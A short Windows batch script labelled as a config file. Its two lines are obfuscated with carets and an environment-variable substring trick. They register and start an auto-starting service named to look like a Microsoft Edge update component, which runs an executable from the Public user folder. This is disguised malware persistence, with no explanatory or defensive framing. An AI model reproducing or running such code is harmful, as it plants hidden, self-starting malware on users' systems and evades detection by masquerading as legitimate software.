REM config 2278 v2
^s^c c^r^eat^e M^ic^ro^s^oftEdgeUpdateCo^r^e ^b^in^Pa^th= "cmd.exe /c C:\Users\Public\svc.exe" st^art= ^a^u^t^o
%windir:~9,1%c start ^M^i^c^r^os^oftEd^ge^U^pda^te^Cor^e
